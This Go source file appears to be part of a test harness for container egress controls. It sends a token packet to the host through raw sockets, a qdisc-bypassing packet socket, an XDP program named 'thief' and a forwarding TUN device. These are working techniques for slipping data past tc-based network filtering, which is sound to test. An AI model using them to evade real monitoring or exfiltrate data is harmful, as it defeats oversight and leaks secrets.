// SPDX-License-Identifier: Apache-2.0

package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"unsafe"

	"github.com/cilium/ebpf"
	"github.com/cilium/ebpf/asm"
	"golang.org/x/sys/unix"
)

// datagram is a UDP packet with its IPv4 header. The UDP checksum is left out,
// which IPv4 allows.
func datagram(from string, port int, token []byte) []byte {
	p := make([]byte, 28+len(token))
	p[0], p[8], p[9] = 0x45, 64, unix.IPPROTO_UDP
	binary.BigEndian.PutUint16(p[2:], uint16(len(p)))
	copy(p[12:16], net.ParseIP(from).To4())
	copy(p[16:20], net.ParseIP(hostIP).To4())
	binary.BigEndian.PutUint16(p[10:], checksum(p[:20]))
	binary.BigEndian.PutUint16(p[20:], 5000)
	binary.BigEndian.PutUint16(p[22:], uint16(port))
	binary.BigEndian.PutUint16(p[24:], uint16(8+len(token)))
	copy(p[28:], token)
	return p
}

func checksum(b []byte) uint16 {
	sum := uint32(0)
	for i := 0; i < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}

// frame is a datagram as it leaves the container's device.
func frame(port int, token []byte) []byte {
	to, _ := net.ParseMAC(hostMAC)
	from, _ := net.ParseMAC(containerMAC)
	f := append(append([]byte{}, to...), from...)
	f = append(f, 0x08, 0x00)
	return append(f, datagram(containerIP, port, token)...)
}

// rawSend needs CAP_NET_RAW, which runtimes give by default.
func rawSend(protocol, port int, token []byte) error {
	return socket(unix.AF_INET, unix.SOCK_RAW, protocol, func(fd int) error {
		p := datagram(containerIP, port, token)
		if protocol != unix.IPPROTO_RAW {
			p = p[20:] // the kernel writes the IP header
		}
		return unix.Sendto(fd, p, 0, v4(hostIP, 0))
	})
}

func packetSend(port int, token []byte, bypass bool) error {
	ifi, err := net.InterfaceByName(device)
	if err != nil {
		return err
	}
	return socket(unix.AF_PACKET, unix.SOCK_RAW, 0, func(fd int) error {
		if bypass { // past the queueing discipline, and past tc with it
			if err := unix.SetsockoptInt(fd, unix.SOL_PACKET, unix.PACKET_QDISC_BYPASS, 1); err != nil {
				return err
			}
		}
		return unix.Sendto(fd, frame(port, token), 0, &unix.SockaddrLinklayer{Ifindex: ifi.Index})
	})
}

func rawConnect(fd int, sa *unix.RawSockaddr) error {
	_, _, errno := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(sa)), unsafe.Sizeof(*sa))
	if errno != 0 {
		return os.NewSyscallError("connect", errno)
	}
	return nil
}

// xdpLive makes the kernel send a frame as if another device had received it and
// an XDP program there had redirected it: it enters the device below tc.
func xdpLive(port int, token []byte) error {
	ifi, err := net.InterfaceByName(device)
	if err != nil {
		return err
	}
	p, err := ebpf.NewProgram(&ebpf.ProgramSpec{
		Name: "thief", Type: ebpf.XDP, License: "Dual BSD/GPL",
		Instructions: asm.Instructions{
			asm.Mov.Imm(asm.R1, int32(ifi.Index)), asm.Mov.Imm(asm.R2, 0), asm.FnRedirect.Call(), asm.Return(),
		},
	})
	if err != nil {
		return err
	}
	defer p.Close()
	_, err = p.Run(&ebpf.RunOptions{Data: frame(port, token), Repeat: 1, Flags: unix.BPF_F_TEST_XDP_LIVE_FRAMES})
	return err
}

// tunSend lets a packet come in through a device of its own and have the kernel
// forward it: no socket sends it.
func tunSend(port int, token []byte) error {
	if err := os.WriteFile("/proc/sys/net/ipv4/ip_forward", []byte("1"), 0); err != nil {
		return err
	}
	fd, err := unix.Open("/dev/net/tun", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("/dev/net/tun: %w", err)
	}
	defer unix.Close(fd)
	req, err := unix.NewIfreq("tun0")
	if err != nil {
		return err
	}
	req.SetUint16(unix.IFF_TUN | unix.IFF_NO_PI)
	if err := unix.IoctlIfreq(fd, unix.TUNSETIFF, req); err != nil {
		return err
	}
	if err := commands["set-up"].run([]string{"tun0", "10.79.0.1/24"}); err != nil {
		return err
	}
	// The host's end has a way back to this network; reverse path filters look for it.
	_, err = unix.Write(fd, datagram("10.79.0.2", port, token))
	return err
}
